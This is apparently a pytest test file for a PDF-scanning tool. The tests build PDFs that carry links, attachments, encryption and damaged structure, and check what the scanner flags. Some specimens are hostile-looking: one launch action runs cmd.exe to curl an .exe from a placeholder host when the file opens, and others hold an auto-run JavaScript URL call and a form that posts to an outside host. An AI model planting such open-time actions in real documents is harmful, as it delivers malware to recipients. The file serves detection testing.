"""PDF files made by pypdf's writer and by hand: actions, scripts, links, files, encryption, damage."""

from __future__ import annotations

import io
from typing import TYPE_CHECKING

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from noroshi.examine.model import Effect, Finding
from noroshi.examine.traces import traces_of
from tests.examine import specimens
from tests.examine.test_walk import codes

if TYPE_CHECKING:
    from pypdf.generic import PdfObject

    from tests.examine.conftest import Examine

HIDDEN = b"""%PDF-1.4
1 0 obj
<< /Type /Catalog /Pages 2 0 R
   /OpenAction << /S /JavaScript /JS (app.launchURL\\("http://js.example/a"\\)) >> >>
endobj
2 0 obj
<< /Type /Pages /Kids [] /Count 0 >>
endobj
trailer << /Root 1 0 R /Size 3 >>
"""
"""Without a table of objects, as such files often come; the library rebuilds it."""


def dictionary(**entries: PdfObject | str) -> DictionaryObject:
    """A dictionary; a text that begins with a slash is a name."""
    made = DictionaryObject()
    for key, given in entries.items():
        text = NameObject if isinstance(given, str) and given.startswith("/") else TextStringObject
        made[NameObject("/" + key)] = text(given) if isinstance(given, str) else given
    return made


def written(writer: PdfWriter) -> bytes:
    """The file."""
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def linked(url: str = "http://link.example/a") -> PdfWriter:
    """One page with a link."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    action = dictionary(Type="/Action", S="/URI", URI=url)
    link = dictionary(Type="/Annot", Subtype="/Link", A=action)
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return writer


def test_a_link_is_a_trace(examined: Examine) -> None:
    """A link is a trace."""
    result = examined(written(linked()), "a.pdf")
    assert "pdf" == result.nodes[0].type
    assert ["http://link.example/a"] == [one.value for one in traces_of(result) if one.type == "url"]


def test_an_embedded_document_is_examined(examined: Examine) -> None:
    """An embedded document is examined."""
    writer = linked()
    writer.add_attachment("請求書.docm", specimens.docm())
    result = examined(written(writer), "a.pdf")
    assert ["pdf", "ooxml"] == [node.type for node in result.nodes[:2]]
    assert "請求書.docm" == result.nodes[1].name
    assert "file-inside" in codes(result)


def test_a_program_that_is_launched(examined: Examine) -> None:
    """A program that is launched."""
    writer = linked()
    windows = dictionary(F="cmd.exe", P="/c curl http://launch.example/a.exe -o a.exe")
    writer._root_object[NameObject("/OpenAction")] = dictionary(S="/Launch", Win=windows)
    result = examined(written(writer), "a.pdf")
    assert {"launches", "runs-when-opened"} <= set(codes(result))
    assert "http://launch.example/a.exe" in {one.value for one in traces_of(result) if one.kind == "download"}


def test_a_script_and_a_form_that_is_sent(examined: Examine) -> None:
    """A script and a form that is sent."""
    writer = linked()
    script = 'app.launchURL("http://script.example/");'
    writer._root_object[NameObject("/OpenAction")] = dictionary(S="/JavaScript", JS=script)
    form = dictionary(S="/SubmitForm", F=dictionary(FS="/URL", F="http://form.example/p"))
    writer.pages[0][NameObject("/AA")] = dictionary(O=form)
    result = examined(written(writer), "a.pdf")
    assert {"script-inside", "form-outside"} <= set(codes(result))
    assert "javascript" in {node.type for node in result.nodes}
    effects = [one for one in result.told[0] if isinstance(one, Effect)]
    assert [("POST", "http://form.example/p")] == [tuple(one.arguments.values()) for one in effects]


@pytest.mark.parametrize(("password", "code"), [("", "password-empty"), ("1234", "password-found")])
def test_an_encrypted_file_is_opened(examined: Examine, password: str, code: str) -> None:
    """An encrypted file is opened."""
    writer = linked()
    writer.encrypt(password, owner_password="owner", algorithm="AES-256")  # noqa: S106 - of a benign file
    result = examined(written(writer), "a.pdf")
    assert [code] == codes(result)
    assert "http://link.example/a" in {one.value for one in traces_of(result)}


def test_a_password_that_nobody_knows(examined: Examine) -> None:
    """A password that nobody knows."""
    writer = linked()
    writer.encrypt("nobody-knows", algorithm="AES-256")
    assert ["encrypted"] == codes(examined(written(writer), "a.pdf"))


def test_objects_in_object_streams(examined: Examine) -> None:
    """What stands compressed with others is looked at, too."""
    inner = b"<< /S /URI /URI (http://packed.example/x) >>"
    packed = b"4 0 " + inner
    raw = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    places = {1: 9, 2: len(raw)}
    raw += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    places[3] = len(raw)
    raw += b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )
    places[5] = len(raw)
    rows = bytes([0, 0, 0, 0])
    for number in range(1, 6):
        rows += bytes([2, 0, 3, 0]) if number == 4 else bytes([1]) + places[number].to_bytes(2, "big") + b"\0"
    raw += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    raw += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[5]
    assert "http://packed.example/x" in {one.value for one in traces_of(examined(raw, "a.pdf"))}


def test_a_file_without_a_table(examined: Examine) -> None:
    """A file without a table."""
    result = examined(HIDDEN, "a.pdf")
    assert {"script-inside", "runs-when-opened"} <= set(codes(result))
    assert "http://js.example/a" in {one.value for one in traces_of(result)}


def test_a_file_whose_objects_are_gone_is_searched_as_text(examined: Examine) -> None:
    """Its compressed streams, too."""
    import zlib  # noqa: PLC0415 - used here only

    body = zlib.compress(b"BT (http://stream.example/y) Tj ET" * 3)
    raw = b"%PDF-1.4\n(http://plain.example/z)\nstream\n" + body + b"\nendstream"
    result = examined(raw, "a.pdf")
    assert ["damaged"] == codes(result)
    urls = {one.value for one in traces_of(result) if one.type == "url"}
    assert {"http://stream.example/y", "http://plain.example/z"} == urls


def test_damage_anywhere_ends_in_findings_only(examined: Examine) -> None:
    """Damage anywhere ends in findings only."""
    writer = linked()
    writer.add_attachment("a.txt", b"x")
    whole = written(writer)
    for at in range(20, len(whole) - 8, 23):
        result = examined(whole[:at] + b"\xff\0[<<" + whole[at + 5 :], "a.pdf")
        malformed = [
            one
            for one in result.told.get(0, [])
            if isinstance(one, Finding) and "malformed" in one.values.get("what", "")
        ]
        assert not malformed
